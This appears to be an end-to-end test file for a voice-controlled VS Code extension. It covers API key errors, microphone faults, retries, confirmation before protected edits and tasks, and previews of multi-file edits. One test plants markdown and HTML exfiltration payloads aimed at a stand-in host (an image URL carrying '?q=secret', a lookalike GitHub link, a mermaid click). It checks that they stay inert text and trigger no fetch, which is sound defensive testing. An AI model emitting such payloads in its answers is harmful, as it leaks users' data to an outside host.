import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import manifest from '../../package.json' with { type: 'json' };
import { COMMANDS } from '../../src/common/settings/commands.ts';
import { SAMPLE_PROJECT } from '../support/host/sampleProject.ts';
import { setupPage, setupParts, tryingAgain } from '../support/host/setupPage.ts';
import { skipWithoutHost } from '../support/host/skipWithoutHost.ts';
import { SoundFileMicrophone } from '../support/host/soundFileMicrophone.ts';
import { Studio } from '../support/host/studio.ts';
import { HOSTS, type HostVersion } from '../support/host/versions.ts';
import { type OpenAIServer, startOpenAIServer } from '../support/server/openaiServer.ts';
import { type TemporaryFolder, temporaryFolder } from '../support/temporaryFolder.ts';
import { until } from '../support/until.ts';

const SCREENSHOTS = resolve(import.meta.dirname, '../../out/screenshots');
const [CURRENT, OLDEST] = HOSTS as readonly [HostVersion, HostVersion];
const PROGRAMS = ['flite', 'pocketsphinx_batch', 'sox'];
const KEY = 'sk-the-right-key-1234';
const PHRASE = 'rename total to grand total';
const API = { key: KEY, hears: [PHRASE, 'undo that', 'go to line three'] };

const RENAME = {
  reply: { calls: [{ name: 'rename_symbol', arguments: { name: 'total', new_name: 'grandTotal' } }] },
};

describe('the workbench', function () {
  this.timeout(180_000);
  let studio: Studio;
  let folder: TemporaryFolder;
  let microphone: SoundFileMicrophone;
  /** Speaks, at an address of its own. */
  let voice: OpenAIServer;

  before(async function () {
    skipWithoutHost(this, CURRENT, PROGRAMS);
    folder = temporaryFolder('workbench');
    microphone = new SoundFileMicrophone(folder.path);
    // SoX, but what it should play it takes at once: no loudspeakers are needed.
    const sox = join(folder.path, 'sox');
    const playing = 'for word; do [ "$word" != -d ] || exec cat >/dev/null; done';
    writeFileSync(sox, `#!/bin/sh\n${playing}\nexec sox "$@"\n`, { mode: 0o755 });
    voice = await startOpenAIServer();
    studio = await Studio.start({
      host: CURRENT,
      files: SAMPLE_PROJECT,
      api: API,
      settings: {
        'aloud.speech.baseUrl': voice.url,
        'aloud.microphone.backend': 'command',
        'aloud.microphone.command': [microphone.program],
        // What it hears comes when it is opened.
        'aloud.microphone.standbySeconds': 0,
        'aloud.player': 'sox',
        'aloud.sox.path': sox,
        'aloud.listening.patienceMs': 1500,
      },
    });
  });

  after(async () => {
    try {
      await studio?.stop();
    } finally {
      await voice?.close();
      folder?.remove();
    }
  });

  afterEach(async function () {
    if (this.currentTest?.state !== 'failed') return;
    const name = this.currentTest.title.replace(/\W+/g, '-').slice(0, 60);
    await studio.workbench.screenshot(join(SCREENSHOTS, `failed-${name}.png`));
    await studio.restore();
  });

  const picture = (name: string) => studio.workbench.screenshot(join(SCREENSHOTS, `${name}.png`));

  /** Speaks a command, and waits for the failure that is shown. Returns its text and buttons, and closes it. */
  async function failing(pattern: RegExp, command = 'Aloud: Voice Command'): Promise<string> {
    await studio.press(command);
    const shown = await studio.notification(pattern);
    await studio.state('idle');
    const text = await shown.innerText();
    await picture(`failure-${pattern.source.replace(/\W+/g, '-').slice(0, 30)}`);
    await studio.workbench.run('Notifications: Clear All Notifications');
    await shown.waitFor({ state: 'detached' });
    return text;
  }

  /** The last recording goes through after all, and does what it says. */
  async function retried(): Promise<void> {
    studio.api.say(RENAME, { reply: { text: 'Renamed.' } });
    await studio.workbench.openFile('cart.ts', 8, 3);
    await studio.workbench.run('Aloud: Retry Last Recording');
    await studio.text(/function grandTotal\(/);
    await studio.state('idle');
    await undone();
  }

  async function undone(): Promise<void> {
    await studio.workbench.page.keyboard.press('Control+Z');
    await studio.text(text => text === SAMPLE_PROJECT['cart.ts']);
  }

  /** Gives a key for the address of everything. */
  async function setKey(key: string): Promise<void> {
    const { workbench } = studio;
    const kept = workbench.page.locator('.statusbar-item').filter({ hasText: 'is kept' });
    await kept.waitFor({ state: 'detached' });
    await workbench.run('Aloud: Set API Key');
    const choice = workbench.page.locator('.quick-input-widget .monaco-list-row');
    await choice.filter({ hasText: 'Everything without an address of its own' }).click();
    await studio.answer('secret storage', key);
    await kept.waitFor();
  }

  it('lists every command in the palette', async () => {
    const { page } = studio.workbench;
    await studio.workbench.run('Aloud: Show Conversation');
    await page.keyboard.press('F1');
    await page.locator('.quick-input-widget input').first().fill('>Aloud: ');
    const rows = page.locator('.quick-input-list .monaco-list-row');
    // Others are listed only while they can do something.
    const { commands, menus } = manifest.contributes;
    const later = [...commands.filter(each => 'enablement' in each), ...menus.commandPalette].map(
      ({ command }) => command,
    );
    for (const [id, title] of Object.entries(COMMANDS)) {
      if (later.includes(id)) continue;
      await page.locator('.quick-input-widget input').first().fill(`>Aloud: ${title}`);
      await rows
        .filter({ hasText: `Aloud: ${title}` })
        .first()
        .waitFor();
    }
    await page.keyboard.press('Escape');
  });

  it('no key: says that nothing hears yet, and the recording waits', async () => {
    await studio.workbench.openFile('cart.ts', 8, 3);
    await microphone.hears(PHRASE);
    await studio.press('Aloud: Voice Command');
    const { page } = studio.workbench;
    await page.locator('.quick-input-title').filter({ hasText: 'What shall hear', visible: true }).waitFor();
    await page.keyboard.press('Escape');
    const shown = await studio.notification(/Nothing hears you yet/);
    const text = await shown.innerText();
    await studio.state('idle');
    await studio.workbench.run('Notifications: Clear All Notifications');
    await shown.waitFor({ state: 'detached' });
    assert.match(text, /What you said waits/);
    assert.match(text, /Choose What Hears/);
    assert.equal(studio.api.requestsTo('/chat/completions').length, 0);
  });

  it('F12: a wrong key: says so, tries once, and Set API Key mends it', async () => {
    await setKey('sk-a-wrong-key-5678');
    const before = studio.api.requestsTo('/audio/transcriptions').length;
    const text = await failing(/does not accept the API key/, 'Aloud: Retry Last Recording');
    assert.doesNotMatch(text, /5678/);
    assert.equal(studio.api.requestsTo('/audio/transcriptions').length, before + 1);
    await setKey(KEY);
    await retried();
  });

  it('Type a Command edits', async () => {
    await studio.workbench.openFile('cart.ts', 8, 3);
    studio.api.say(RENAME, { reply: { text: 'Renamed.' } });
    await studio.type(PHRASE);
    await studio.text(/function grandTotal\(/);
    await studio.state('idle');
    await undone();
  });

  it('Try a Recording sends a bundled one', async () => {
    const { page } = studio.workbench;
    await studio.workbench.openFile('cart.ts', 8, 3);
    studio.api.say(
      { reply: { calls: [{ name: 'go_to', arguments: { line: 3 } }] } },
      { reply: { text: 'Line three.' } },
    );
    await studio.workbench.run('Aloud: Try a Recording');
    await page.locator('.quick-input-widget .monaco-list-row').filter({ hasText: 'Go to line three' }).click();
    await page.locator('.statusbar-item').filter({ hasText: 'Ln 3,' }).waitFor();
    await studio.state('idle');
  });

  it('A28, A29, A30: an answer is shown as text: no picture, drawing or link, and nothing is fetched', async () => {
    const { page } = studio.workbench;
    await studio.workbench.openFile('cart.ts', 8, 3);
    const fetched: string[] = [];
    page.on('request', request => fetched.push(request.url()));
    const answer =
      'Look: ![x](https://evil.example/?q=secret) <img src="https://evil.example/i"> <svg><image href="https://evil.example/s"/></svg> [docs](https://github.com.evil.example/) ```mermaid\nclick A "https://evil.example/m"\n```';
    studio.api.say({ reply: { text: answer } });
    await studio.type('please make all of this much nicer somehow');
    await studio.state('idle');
    const shown = await until('the answer is shown', async () =>
      (await studio.workbench.entries()).find(({ kind, text }) => kind === 'answer' && text.includes('mermaid')),
    );
    for (const words of [
      'x (https://evil.example/?q=secret)',
      '<img src="https://evil.example/i">',
      '(https://github.com.evil.example/)',
    ])
      assert.ok(shown.text.includes(words), shown.text);
    for (const frame of page.frames())
      assert.equal(
        await frame
          .locator('.feed')
          .locator('img, svg:not(.icon), a, iframe, [href], [src]')
          .count()
          .catch(() => 0),
        0,
      );
    assert.deepEqual(
      fetched.filter(url => url.includes('evil.example')),
      [],
    );
  });

  it('A17: the key goes to the address that it was given for, and not to the one that speaks', async () => {
    await studio.workbench.openFile('cart.ts', 8, 3);
    studio.api.say({ reply: { text: 'It adds up all prices.' } });
    await studio.workbench.run('Aloud: Explain Aloud');
    await until('it is spoken', () => voice.requestsTo('/audio/speech').length > 0);
    await studio.state('idle');
    assert.equal(studio.api.requests.at(-1)?.headers['authorization'], `Bearer ${KEY}`);
    for (const { headers } of voice.requests) assert.doesNotMatch(JSON.stringify(headers), /sk-/);
  });

  it('Check Setup shows each part, which way each job takes, and how to mend what does not work', async () => {
    const { page } = studio.workbench;
    microphone.unplug();
    studio.api.say({ reply: { calls: [{ name: 'say_ready', arguments: {} }] } });
    try {
      await studio.workbench.run('Aloud: Check Setup');
      const parts = await setupParts(studio.workbench);
      await picture('check-setup');
      const wanted = [
        /^fails Microphone.*was not found.*aloud\.microphone\.command/,
        /^works Loudspeakers.*sox can play/,
        /^works SoX/,
        /^works Addresses and keys.*with a key.*without a key/,
        /^works Transcription.*go to line three.*It took \d+ ms/,
        /^works Chat model.*calls functions.*It took \d+ ms/,
        /^works Speech/,
        /^note Chat by sound.*aloud\.chat\.audio switches it on/,
        /^note Conversation/,
      ];
      assert.equal(parts.length, wanted.length, parts.join('\n'));
      for (const [i, part] of parts.entries()) assert.match(part, wanted[i] as RegExp);
      const frame = await setupPage(studio.workbench);
      assert.match((await frame.locator('.paths').innerText()).replace(/\s+/g, ' '), /A command: .* hears it/);
      await frame.locator('.part.fails button').filter({ hasText: 'Open Settings' }).first().click();
      const settings = page.locator('.settings-editor');
      await settings.filter({ hasText: 'A program and its arguments that write' }).waitFor();
      await settings.press('Escape');
      await settings.waitFor({ state: 'detached' });
    } finally {
      microphone.plugIn();
    }
  });

  it('Check Setup never ticks a microphone that gives silence, nor a sample that is heard wrong', async () => {
    await microphone.hears();
    const wrong = { fault: 'body', type: 'application/json', body: '{"text":"go to wine free"}' } as const;
    studio.api.fail('/audio/transcriptions', wrong);
    studio.api.say({ reply: { text: 'Ready!' } });
    await tryingAgain(studio.workbench, frame => frame.locator('button').first().click());
    const parts = await setupParts(studio.workbench);
    const failed = parts.filter(part => part.startsWith('fails'));
    assert.equal(failed.length, 3, parts.join('\n'));
    assert.match(failed[0] ?? '', /Microphone.*nothing but silence/);
    assert.match(failed[1] ?? '', /Transcription.*answers, but understood.*free”/);
    assert.match(failed[2] ?? '', /Chat model.*did not call a function/);
    await picture('check-setup-wrong');
    await studio.workbench.run('View: Close Editor');
  });

  it('F18: a waiting recording that cannot be saved: says so, and it still waits', async () => {
    const { page } = studio.workbench;
    await studio.workbench.openFile('cart.ts', 8, 3);
    await microphone.hears(PHRASE);
    studio.api.fail('/audio/transcriptions', { fault: 'status', status: 401 });
    await failing(/key/);
    await studio.workbench.run('Aloud: Show Waiting Recordings');
    const row = page.locator('.quick-input-widget .monaco-list-row').first();
    await row.hover();
    await row.locator('[aria-label="Save as a WAV file"]').click();
    const input = page.locator('.quick-input-widget input[type="text"]').first();
    await until('the dialog is there', async () => /speech.*\.wav$/.test(await input.inputValue()));
    await input.fill('/proc/speech.wav');
    // While the dialog looks at a folder it takes no Enter.
    await until('the dialog has taken it', async () => {
      if (await input.isVisible()) await input.press('Enter', { timeout: 1000 }).catch(() => {});
      return input.waitFor({ state: 'hidden', timeout: 1000 }).then(
        () => true,
        () => false,
      );
    });
    await studio.notification(/could not be saved/);
    await picture('not-saved');
    await studio.workbench.run('Notifications: Clear All Notifications');
    await retried();
  });

  it('F15: no microphone: says what is missing, and sends nothing', async () => {
    microphone.unplug();
    const before = studio.api.requests.length;
    try {
      const text = await failing(/was not found/);
      assert.match(text, /aloud\.microphone\.command/);
      assert.match(text, /Check Setup/);
      assert.equal(studio.api.requests.length, before);
    } finally {
      microphone.plugIn();
    }
  });

  it('shows that the microphone opens until it hears, and plainly another sign from then on', async () => {
    const item = studio.workbench.statusItem();
    const look = () =>
      item.evaluate(element => {
        const { getComputedStyle } = globalThis as unknown as { getComputedStyle(of: unknown): Record<string, string> };
        return getComputedStyle(element)['backgroundColor'];
      });
    await microphone.hears();
    microphone.sticks();
    try {
      await studio.press('Aloud: Voice Command');
      await studio.state('opening');
      const opening = await look();
      await picture('opening');
      microphone.opens();
      await studio.state('listening');
      assert.notEqual(await look(), opening);
      await studio.workbench.page.keyboard.press('Escape');
      await studio.state('idle');
    } finally {
      microphone.opens();
    }
  });

  it('F9: silence: says so in passing, and sends nothing', async () => {
    await microphone.hears();
    microphone.plugIn(true);
    const before = studio.api.requests.length;
    await studio.listen('Aloud: Voice Command');
    const status = studio.workbench.page.locator('.statusbar-item').filter({ hasText: /Nothing was heard/ });
    await status.waitFor();
    await studio.state('idle');
    microphone.plugIn();
    assert.equal(await studio.workbench.notifications().count(), 0);
    assert.equal(studio.api.requests.length, before);
  });

  it('F2: the server is down: says so; when it is back, the recording goes through', async () => {
    await studio.workbench.openFile('cart.ts', 8, 3);
    await microphone.hears(PHRASE);
    let text = '';
    try {
      await studio.apiDown();
      text = await failing(/is not running/);
    } finally {
      await studio.apiUp(API);
    }
    assert.match(text, /Retry/);
    await retried();
  });

  it('F4: a nonsense answer: says so, and the words can be tried again', async () => {
    await studio.workbench.openFile('cart.ts', 8, 3);
    await microphone.hears(PHRASE);
    const nonsense = { fault: 'body', type: 'text/html', body: '<html>busy</html>' } as const;
    studio.api.fail('/chat/completions', nonsense, nonsense, nonsense);
    assert.match(await failing(/The chat server .* an answer/), /Retry/);
    assert.equal(await studio.workbench.editorText(), SAMPLE_PROJECT['cart.ts']);
    await retried();
  });

  it('F19: a document that was closed meanwhile stays as it was', async () => {
    await studio.workbench.openFile('main.ts', 1, 1);
    await studio.workbench.openFile('cart.ts', 8, 3);
    await microphone.hears(PHRASE);
    let told = '';
    let closed = () => {};
    const after = new Promise<void>(resolve => {
      closed = resolve;
    });
    studio.api.fail('/audio/transcriptions', { fault: 'slow', after });
    await studio.listen('Aloud: Dictate Text');
    await studio.state('thinking');
    await studio.workbench.run('View: Close Editor');
    await studio.workbench.page.locator('.tab[data-resource-name="cart.ts"]').waitFor({ state: 'detached' });
    closed();
    const shown = await studio.notification(/closed/);
    told = await shown.innerText();
    await studio.state('idle');
    assert.match(told, /Copy Text/);
    await shown.getByText('Copy Text').click();
    await until(
      'the words are in the clipboard',
      async () =>
        (await studio.workbench.page.evaluate(() =>
          (
            globalThis as unknown as { navigator: { clipboard: { readText(): Promise<string> } } }
          ).navigator.clipboard.readText(),
        )) === PHRASE,
    );
    await studio.workbench.openFile('cart.ts', 8, 3);
    await studio.text(text => text === SAMPLE_PROJECT['cart.ts']);
  });

  it('asks before a protected file is changed: with the change on screen; no is no, and yes is yes', async () => {
    const { page } = studio.workbench;
    const call = {
      reply: { calls: [{ name: 'replace_text', arguments: { find: 'node main.ts', replace: 'node other.ts' } }] },
    };
    await studio.workbench.openFile('package.json', 1, 1);
    for (const answer of ['No', 'Yes']) {
      studio.api.say(call, { reply: { text: answer === 'No' ? 'Not changed.' : 'Changed.' } });
      await studio.type('test with the other file');
      const asked = await studio.workbench.question(/package\.json/);
      assert.match(asked.whole, /package\.json/);
      assert.match(asked.whole, /\+ .*node other\.ts/);
      await picture('confirmation');
      await asked.answer(answer === 'No' ? 'No' : 'Change It');
      await studio.state('idle');
      await studio.text(text => text.includes('node other.ts') === (answer === 'Yes'));
    }
    await page.keyboard.press('Control+Z');
    await studio.text(text => text === SAMPLE_PROJECT['package.json']);
  });

  it('asks before it runs a task', async () => {
    const { page } = studio.workbench;
    let told = '';
    studio.api.say(
      { reply: { calls: [{ name: 'run_command', arguments: { command: 'run_test_task' } }] } },
      {
        expect: ({ messages }) => {
          told = messages.at(-1)?.content ?? '';
        },
        reply: { text: 'Not run.' },
      },
    );
    await studio.type('run the tests');
    const asked = await studio.workbench.question('Run "run test task"?');
    await picture('confirmation-run');
    await page.keyboard.press('Escape');
    await asked.gone();
    await studio.state('idle');
    assert.match(told, /no|refused|declined/i);
  });

  it('shows edits of many files first; what is ticked is changed, and Undo Last Turn takes it back', async () => {
    const { page } = studio.workbench;
    await studio.workbench.openFile('cart.ts', 8, 3);
    const edits = ['cart.ts', 'main.ts'].map(file => ({ file, find: 'Item', replace: 'Article', all: true }));
    studio.api.say(
      { reply: { calls: edits.map(edit => ({ name: 'replace_text', arguments: edit })) } },
      { reply: { text: 'Done.' } },
    );
    await studio.type('call items articles everywhere');
    // Each file that is changed is shown, the last one stays.
    await studio.text(/const items: Article/);
    await studio.state('idle');
    await studio.workbench.run('Aloud: Undo Last Turn');
    await studio.text(/const items: Item/);
    await studio.workbench.openFile('cart.ts', 8, 3);
    await studio.text(/interface Item/);

    await studio.set({ 'aloud.edits.previewFiles': 1 });
    studio.api.say(
      {
        reply: {
          calls: [
            {
              name: 'apply_edits',
              arguments: {
                edits: [
                  { file: 'cart.ts', find: 'let sum = 0', replace: 'let sum = 100' },
                  { file: 'main.ts', find: 'price: 9', replace: 'price: 90' },
                ],
              },
            },
          ],
        },
      },
      { reply: { text: 'Changed one.' } },
    );
    await studio.type('make both bigger');
    const list = page.locator('.quick-input-widget');
    await list.filter({ hasText: 'Change 2 files?' }).waitFor();
    await page.locator('.multiDiffEntry, .monaco-diff-editor').first().waitFor();
    await picture('preview');
    await list.locator('.monaco-list-row').filter({ hasText: 'main.ts' }).click();
    await page.keyboard.press('Enter');
    await studio.state('idle');
    await studio.workbench.openFile('cart.ts', 8, 3);
    await studio.text(/let sum = 100/);
    await studio.workbench.openFile('main.ts', 1, 1);
    await studio.text(/price: 9,/);
  });
});

describe(`the workbench of the oldest VS Code, ${OLDEST.vscode}`, function () {
  this.timeout(180_000);

  let studio: Studio;

  before(async function () {
    skipWithoutHost(this, OLDEST, PROGRAMS);
    studio = await Studio.start({
      host: OLDEST,
      files: SAMPLE_PROJECT,
      environment: { OPENAI_API_KEY: KEY },
      api: API,
      settings: { 'aloud.player': 'none' },
    });
  });

  after(async () => {
    await studio?.workbench.screenshot(join(SCREENSHOTS, 'oldest.png'));
    await studio?.stop();
  });

  it('installs, edits and explains', async () => {
    await studio.workbench.openFile('cart.ts', 8, 3);
    studio.api.say(RENAME, { reply: { text: 'Renamed.' } }, { reply: { text: 'It adds up all prices.' } });
    await studio.type(PHRASE);
    await studio.text(/function grandTotal\(/);
    await studio.state('idle');
    await studio.workbench.page.keyboard.press('Control+Z');
    await studio.text(text => text === SAMPLE_PROJECT['cart.ts']);
    await studio.workbench.run('Aloud: Explain Aloud');
    await studio.conversation(/It adds up all prices\./);
  });
});
